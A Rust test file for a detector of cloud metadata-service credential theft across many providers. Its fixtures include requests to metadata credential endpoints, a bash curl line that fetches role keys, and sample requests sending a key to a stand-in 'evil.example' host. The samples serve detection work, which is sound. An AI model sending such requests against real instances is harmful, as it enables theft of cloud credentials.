//! Credentials: proved by their answers, of every provider, and what is none.

use super::*;
use crate::detect::secret::Part;

#[test]
fn an_aws_credential_is_proved_and_described() {
    let got = imds(ROLE, &ok(&aws_keys()), AWS).unwrap();
    assert_eq!((got.provider, got.service, got.path_id), ("aws", "imds", Some("aws-role-creds")));
    assert_eq!(
        (got.version, got.sensitivity, got.recognised_by),
        (Some("v1"), Sensitivity::Credential, RecognisedBy::Address)
    );
    let credential = got.credential.unwrap();
    assert!(credential.issued);
    assert_eq!(credential.kind, Some("aws-access-key"));
    assert_eq!(credential.id.as_deref(), Some("ASIAEXAMPLE000DEMO01"));
    assert_eq!(credential.scope.as_deref(), Some("demo"));
    assert_eq!(credential.expires.as_deref(), Some("2026-11-24T09:20:57Z"));
    assert_eq!(credential.fingerprint.as_ref().map(String::len), Some(32));
    assert_eq!(got.signals.slugs(), ["issued", "tool-user-agent", "v1"]);
    let shown = format!("{:?}", imds(ROLE, &ok(&aws_keys()), AWS));
    assert!(!shown.contains("wJalr") && !shown.contains("IQoJ"));
}

#[test]
fn an_ordinary_answer_with_the_markers_of_a_credential_is_told_by_its_fingerprint() {
    let at_the_service = imds(ROLE, &ok(&aws_keys()), AWS).unwrap().credential.unwrap();
    let shaped = |body: &str| {
        let tx = exchange("GET /fetch?u=x HTTP/1.1\nHost: app.example", &ok(body), "10.0.0.80:8080");
        let verdict = judged(&mut detector(), &tx);
        assert_eq!((verdict.imds, verdict.issued.len()), (None, 0), "nothing was issued here");
        verdict.shaped
    };
    let passed_on = shaped(&aws_keys()).unwrap();
    assert_eq!(passed_on.fingerprint, at_the_service.fingerprint, "what joins the two");
    assert_eq!((passed_on.issued, passed_on.id.as_deref()), (false, Some("ASIAEXAMPLE000DEMO01")));
    for ordinary in
        ["", "{}", r#"{"SecretAccessKey":""}"#, r#"{"access_token":null}"#, "SecretAccessKey", &"x".repeat(9000)]
    {
        assert_eq!(shaped(ordinary), None, "{ordinary}");
    }
    assert_eq!(judged(&mut detector(), &exchange(ROLE, &ok(&aws_keys()), AWS)).shaped, None, "it was issued here");
}

#[test]
fn what_an_error_has_under_the_names_of_secrets_is_hidden_and_no_credential() {
    let failed = ok(&aws_keys()).replace("200 OK", "500 Error");
    let verdict = judged(&mut detector(), &exchange(ROLE, &failed, AWS));
    assert!(verdict.imds.as_ref().unwrap().credential.as_ref().is_some_and(|credential| !credential.issued));
    let key = Secret::new(KEY.as_bytes(), Part::Access).unwrap();
    assert!(verdict.issued.contains(&key) && verdict.issued.iter().all(|secret| secret.part == Part::Access));
    let listed = judged(&mut detector(), &exchange(ROLE, &ok("{\"roles\":[\"a-role-with-a-long-name\"]}"), AWS));
    assert!(listed.issued.is_empty());
}

#[test]
fn a_2xx_without_the_keys_is_no_credential() {
    let key = "\"SecretAccessKey\" : \"";
    let refusals = [
        r#"{"Code":"AssumeRoleUnauthorizedAccess","Message":"EC2 cannot assume the role"}"#.to_owned(),
        "demo".to_owned(),
        String::new(),
        "<html><body>AccessKeyId SecretAccessKey Token Expiration</body></html>".to_owned(),
        aws_keys().replace("Success", "Failed"),
        aws_keys().replace(&format!("{key}{KEY}"), key),
    ];
    for body in refusals {
        let got = imds(ROLE, &ok(&body), AWS).unwrap();
        assert_eq!(got.credential.map(|c| c.issued), Some(false), "{body}");
        assert!(!got.signals.has(Signal::Issued));
    }
    let refused = imds(ROLE, &ok(r#"{"Code":"Failed","Message":"x"}"#), AWS).unwrap();
    assert!(refused.signals.has(Signal::Refused));
    for (status, signal) in
        [("401 Unauthorized", Signal::Refused), ("404 Not Found", Signal::NotFound), ("503 Busy", Signal::Refused)]
    {
        let got = imds(ROLE, &format!("HTTP/1.1 {status}\nServer: EC2ws\n\n{}", aws_keys()), AWS).unwrap();
        assert!(got.signals.has(signal) && !got.signals.has(Signal::Issued));
    }
    let unanswered = imds(ROLE, "", AWS).unwrap();
    assert!(unanswered.signals.has(Signal::Unanswered));
}

#[test]
fn precursors_are_configuration() {
    for (path, id) in [
        ("/latest/meta-data/iam/security-credentials/", "aws-role-list"),
        ("/latest/meta-data/iam/info", "aws-iam-info"),
        ("/", "aws-root-walk"),
        ("/latest/user-data/iam/security-credentials/", "aws-user-data-bogus"),
    ] {
        let got = imds(
            &format!("GET {path} HTTP/1.1\nHost: 169.254.169.254"),
            &ok(r#"{"Code":"Success","InstanceProfileArn":"x"}"#),
            AWS,
        )
        .unwrap();
        assert_eq!((got.path_id, got.sensitivity, got.credential), (Some(id), Sensitivity::Discovery, None));
        assert_eq!(got.signals.has(Signal::ImpossiblePath), id == "aws-user-data-bogus");
    }
}

#[test]
fn a_role_called_dummy_upgrades_the_event() {
    let got = imds(&ROLE.replace("demo", "dummy"), &ok(&aws_keys()), AWS).unwrap();
    assert_eq!((got.path_id, got.sensitivity), (Some("aws-role-creds"), Sensitivity::Credential));
    assert!(got.credential.unwrap().issued);
}

#[test]
fn session_tokens_tell_versions_and_are_no_credentials() {
    let put = "PUT /latest/api/token HTTP/1.1\nHost: 169.254.169.254\nX-aws-ec2-metadata-token-ttl-seconds: 21600\nUser-Agent: Boto3/1.44 Botocore/1.44";
    let issued = imds(put, &ok("AQAEAEXAMPLEtoken0123456789=="), AWS).unwrap();
    assert_eq!((issued.version, issued.sensitivity, issued.credential), (Some("v2"), Sensitivity::Token, None));
    let (token, lifetime) = issued.issued_token.unwrap();
    assert_eq!(lifetime, 21600);
    assert!(issued.signals.has(Signal::SdkUserAgent));
    let get = format!("{ROLE}\nX-aws-ec2-metadata-token: AQAEAEXAMPLEtoken0123456789==");
    let used = imds(&get, &ok(&aws_keys()), AWS).unwrap();
    assert_eq!((used.version, used.session_token), (Some("v2"), Some(token)));
    assert!(!used.signals.has(Signal::V1));
    assert!(used.headers.iter().any(|field| field == ("x-aws-ec2-metadata-token", "")));
    assert!(used.headers.iter().any(|field| field == ("host", "169.254.169.254")));
}

#[test]
fn every_provider_is_told_and_proved() {
    let token = |extra: &str| {
        format!(
            "HTTP/1.1 200 OK\n\n{{\"access_token\":\"eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL20ifQ.AbCdEfGhIjKlMnOp1234\",{extra}\"token_type\":\"Bearer\"}}"
        )
    };
    let rows = [
        (AWS, "GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net HTTP/1.1\nMetadata: True".to_owned(),
            token("\"client_id\":\"11111111-demo\",\"expires_on\":\"1795576766\","), "azure", "azure-token"),
        (AWS, "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\nHost: metadata.google.internal\nMetadata-Flavor: Google".to_owned(),
            token("\"expires_in\":3599,"), "gcp", "gcp-token"),
        ("169.254.169.252:988", "GET /computeMetadata/v1/instance/service-accounts/a@b.iam/token HTTP/1.1\nMetadata-Flavor: Google".to_owned(),
            token("\"expires_in\":3599,"), "gcp", "gcp-token"),
        ("[fd20:ce::254]:80", "GET /computeMetadata/v1beta1/instance/service-accounts/default/token HTTP/1.1".to_owned(),
            token("\"expires_in\":3599,"), "gcp", "gcp-token-beta"),
        (AWS, "POST /instance_identity/v1/iam_token?version=2022-03-01 HTTP/1.1\nAuthorization: Bearer eyJhbGciOiJSUzI1NiJ9.e.x".to_owned(),
            token("\"expires_in\":3600,"), "ibm", "ibm-iam-old"),
        ("169.254.170.2:80", "GET /v2/credentials/0f0f0f0f-demo HTTP/1.1".to_owned(), ok(&aws_keys().replace("\"Code\" : \"Success\",", "\"RoleArn\":\"arn:aws:iam::1:role/r\",")), "aws", "aws-ecs-creds"),
        ("169.254.170.23:80", "GET /v1/credentials HTTP/1.1\nAuthorization: eyJhbGciOiJSUzI1NiJ9.e.x".to_owned(), ok(&aws_keys()), "aws", "aws-eks-podid"),
        ("100.100.100.200:80", "GET /latest/meta-data/ram/security-credentials/role HTTP/1.1".to_owned(),
            ok(r#"{"Code":"Success","AccessKeyId":"STS.NUexample0000000","AccessKeySecret":"abcDEF0123456789abcDEF","SecurityToken":"CAISEXAMPLE0123456789","Expiration":"2026-11-24T09:20:57Z"}"#), "alibaba", "ali-creds"),
        ("169.254.0.23:80", "GET /latest/meta-data/cam/security-credentials/role HTTP/1.1\nHost: metadata.tencentyun.com".to_owned(),
            ok(r#"{"TmpSecretId":"AKIDexample","TmpSecretKey":"abcDEF0123456789abcDEF","ExpiredTime":1795576766,"Expiration":"2026-11-25T03:19:26Z","Token":"tokEN0123456789abcdef","Code":"Success"}"#), "tencent", "ten-creds"),
        (AWS, "GET /openstack/latest/securitykey HTTP/1.1".to_owned(),
            ok(r#"{"credential":{"access":"HST3example","secret":"abcDEF0123456789abcDEF","securitytoken":"tokEN0123456789abcdef","expires_at":"2026-11-24T09:20:57.000000Z"}}"#), "huawei", "huawei-securitykey"),
        (AWS, "GET /opc/v2/identity/key.pem HTTP/1.1\nAuthorization: Bearer Oracle".to_owned(),
            ok("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA0123456789abcdefABCDEF\nQWERTYuiop0123456789\n-----END RSA PRIVATE KEY-----\n"), "oracle", "oci-key-v2"),
        ("100.96.0.96:80", "GET /volcstack/latest/iam/security_credentials/role HTTP/1.1".to_owned(),
            ok(r#"{"AccessKeyId":"AKTPexample","SecretAccessKey":"abcDEF0123456789abcDEF","SessionToken":"tokEN0123456789abcdef","ExpiredTime":"2026-11-24T17:20:57+08:00"}"#), "volcengine", "volc-creds"),
        ("10.1.1.1:8080", "GET / HTTP/1.1\nDomU_Request: send_my_password".to_owned(), "HTTP/1.1 200 OK\n\nS3cret!pass".to_owned(), "cloudstack", "cs-password"),
        ("127.0.0.1:41299", "GET /MSI/token?api-version=2019-08-01&resource=https://vault.azure.net HTTP/1.1\nX-IDENTITY-HEADER: abc".to_owned(),
            token("\"expires_on\":\"1795576766\","), "azure", "azure-appsvc-token"),
        ("127.0.0.1:40342", "GET /metadata/identity/oauth2/token?api-version=2020-06-01&resource=x HTTP/1.1\nMetadata: true\nAuthorization: Basic x".to_owned(),
            token("\"expires_on\":\"1795576766\","), "azure", "azure-arc-token"),
        ("127.0.0.1:51679", "GET /v2/credentials/abc HTTP/1.1".to_owned(), ok(&aws_keys()), "aws", "aws-ecs-creds"),
        ("168.63.129.16:80", "GET /machine/a/b?comp=certificates&incarnation=1 HTTP/1.1\nx-ms-version: 2012-11-30".to_owned(),
            ok("<?xml version=\"1.0\"?><CertificateFile><Data>MIINswYJKoZIhvcNAQcDoIINpDCC</Data></CertificateFile>"), "azure", "azure-ws-certs"),
    ];
    for (server, request, response, provider, id) in rows {
        let got = imds(&request, &response, server).unwrap_or_else(|| panic!("{request} is silent"));
        assert_eq!((got.provider, got.path_id), (provider, Some(id)), "{request}");
        let credential = got.credential.clone().unwrap();
        assert!(credential.issued, "{request}");
        assert!(credential.fingerprint.is_some(), "{request}");
    }
}

#[test]
fn scope_expiry_and_identifier_by_provider() {
    let body = "HTTP/1.1 200 OK\n\n{\"access_token\":\"eyJ0eXAiOiJKV1QifQ.eyJhIjoxfQ.AbCdEfGhIjKlMnOp1234\",\"client_id\":\"11111111-demo\",\"expires_in\":\"3600\",\"expires_on\":\"1795576766\",\"resource\":\"r\",\"token_type\":\"Bearer\"}";
    let azure = imds("GET /metadata/identity/oauth2/token?resource=https%3A%2F%2Fvault.azure.net&api-version=1 HTTP/1.1\nMetadata: true", body, AWS).unwrap();
    let credential = azure.credential.unwrap();
    assert_eq!(credential.scope.as_deref(), Some("https://vault.azure.net"));
    assert_eq!(
        (credential.id.as_deref(), credential.expires.as_deref()),
        (Some("11111111-demo"), Some("2026-11-25T03:19:26Z"))
    );
    let gcp = "HTTP/1.1 200 OK\nMetadata-Flavor: Google\n\n{\"access_token\":\"ya29.c.EXAMPLE-fakeFAKEfake0fakeFAKEfake0\",\"expires_in\":3600,\"token_type\":\"Bearer\"}";
    let gcp = imds(
        "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\nMetadata-Flavor: Google",
        gcp,
        AWS,
    )
    .unwrap();
    let credential = gcp.credential.unwrap();
    assert_eq!(
        (credential.scope.as_deref(), credential.expires.as_deref()),
        (Some("default"), Some("2026-11-24T04:13:20Z"))
    );
    assert!(!gcp.signals.has(Signal::RogueResponder));
}

#[test]
fn a_clients_word_does_not_hide_a_credential() {
    for lie in [
        "Metadata-Flavor: Google",
        "Metadata: true",
        "Authorization: Bearer Oracle",
        "Host: metadata.google.internal",
        "X-Metadata-Token: x",
    ] {
        let request = format!("GET /latest/meta-data/iam/security-credentials/demo HTTP/1.1\n{lie}");
        let got = imds(&request, &ok(&aws_keys()), AWS).unwrap();
        assert_eq!((got.provider, got.credential.map(|c| c.issued)), ("aws", Some(true)), "{lie}");
    }
}

#[test]
fn relayed_tokens_are_seen_outside_signing_headers() {
    let issued = detector().http(&exchange(ROLE, &ok(&aws_keys()), AWS), false).issued;
    let key = Secret::new(KEY.as_bytes(), Part::Key).unwrap();
    assert!(issued.contains(&key), "what is issued is what is looked for");
    let is_key = |seen: &&Seen| key.anchors.iter().any(|anchor| anchor & !3 == seen.anchor());
    let carries = |seen: &[Seen]| seen.iter().filter(is_key).map(|seen| seen.spot()).min();
    let meets = |request: &str, response: &str, server: &str| {
        let exchange = exchange(request, response, server);
        let mut verdict = detector().http(&exchange, false);
        assert!(verdict.carried.is_empty(), "nobody has looked yet");
        verdict.search(&exchange, &Catalogue::builtin().unwrap());
        assert_eq!(detector().http(&exchange, true).carried, verdict.carried);
        let [request, response] = verdict.carried.found();
        (carries(request), carries(response))
    };
    let server = "93.184.216.34:80";
    assert_eq!(
        meets("GET /fetch?url=x HTTP/1.1\nHost: shop.example", &ok(&aws_keys()), server),
        (None, Some(Spot::Open))
    );
    let sent = |request: &str| meets(request, &ok(""), server);
    let open = (Some(Spot::Open), None);
    assert_eq!(sent(&format!("POST /drop HTTP/1.1\nHost: evil.example\n\nk={KEY}")), open);
    assert_eq!(sent(&format!("GET / HTTP/1.1\nHost: evil.example\nX-Data: {KEY}")), open);
    let bearer = format!("GET / HTTP/1.1\nHost: evil.example\nAuthorization: Bearer {KEY}");
    assert_eq!(sent(&bearer), (Some(Spot::Authorization), None));
    let (host, path) = KEY.split_at(KEY.find('/').unwrap());
    assert_eq!(sent(&format!("GET {path} HTTP/1.1\nHost: {host}")), open);
    let signed = format!("X-Amz-Security-Token: {KEY}\nAuthorization: AWS4-HMAC-SHA256 Credential=A, Signature=00");
    assert_eq!(sent(&format!("GET / HTTP/1.1\nHost: b.example\n{signed}")), (Some(Spot::SignedHeader), None));
    let query = format!("X-Amz-Security-Token={KEY}&X-Amz-Signature=00");
    assert_eq!(sent(&format!("GET /b?{query} HTTP/1.1\nHost: s3.amazonaws.com")), (Some(Spot::Signed), None));
    assert_eq!(meets(ROLE, &ok(&aws_keys()), AWS), (None, None));
}

#[test]
fn any_exchange_is_judged_without_panic_and_without_secrets_in_debug_output() {
    use proptest::prelude::*;
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    let path = "(/(latest|meta-data|iam|security-credentials|computeMetadata|v1|token|%2e%2e|[a-z%/.?#&=]{0,8})){0,6}";
    let header = "(Host: |Authorization: Bearer |Metadata-Flavor: |X-Metadata-Token: |Content-Encoding: )[ -~]{0,24}";
    let body =
        proptest::collection::vec(prop_oneof![Just(b'"'), Just(b'{'), Just(b':'), Just(b'\\'), any::<u8>()], 0..80);
    let server = prop_oneof![Just(AWS), Just("100.100.100.200:80"), Just("127.0.0.1:51679"), Just("93.184.216.34:80")];
    let detector = std::cell::RefCell::new(detector());
    runner
        .run(&(path, header, body, server), |(path, header, body, server)| {
            let mut tx = exchange(&format!("GET {path} HTTP/1.1\n{header}"), "HTTP/1.1 200 OK", server);
            tx.request.as_mut().unwrap().body.captured = body.clone();
            tx.response.as_mut().unwrap().body.captured = body;
            let verdict = judged(&mut detector.borrow_mut(), &tx);
            if let Some(imds) = verdict.imds {
                assert!(imds.path.is_empty() || imds.path.starts_with('/'));
            }
            Ok(())
        })
        .unwrap();
}

#[test]
fn a_part_of_a_document_is_judged_as_a_part() {
    let whole = aws_keys();
    let cut = whole.find("\"Expiration\"").unwrap();
    let first = format!("HTTP/1.1 206 Partial Content\nServer: EC2ws\n\n{}", &whole[..cut]);
    assert!(imds(ROLE, &first, AWS).unwrap().credential.unwrap().issued);
    let rest = format!("HTTP/1.1 206 Partial Content\nServer: EC2ws\n\n{}", &whole[cut + 1..]);
    assert!(!imds(ROLE, &rest, AWS).unwrap().credential.unwrap().issued);
}

/// What agents and boot scripts hold has the same words in it.
#[test]
fn scripts_and_settings_that_mention_keys_are_no_credentials() {
    let script = "#!/bin/bash\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r |\n  jq -r '.AccessKeyId, .SecretAccessKey, .Token, .Expiration' # Code Success\n";
    for body in [script.to_owned(), serde_json::json!({ "script": script, "Code": "Success" }).to_string()] {
        let got = imds("GET /latest/user-data HTTP/1.1\nHost: 169.254.169.254", &ok(&body), AWS).unwrap();
        assert_eq!((got.sensitivity, got.credential), (Sensitivity::UserData, None), "{body}");
    }
    let settings = r#"{"extensionGoalStates":[{"name":"x","settings":[{"protectedSettings":"MIIB0123456789abcdef","code":"Failed/x"}],"error":{"a":1}}]}"#;
    let request = "GET /vmSettings HTTP/1.1\nHost: 168.63.129.16:32526\nx-ms-version: 2015-09-01";
    let got = imds(request, &format!("HTTP/1.1 200 OK\n\n{settings}"), "168.63.129.16:32526").unwrap();
    assert_eq!((got.path_id, got.credential.map(|c| c.issued)), (Some("azure-hga-vmsettings"), Some(true)));
}
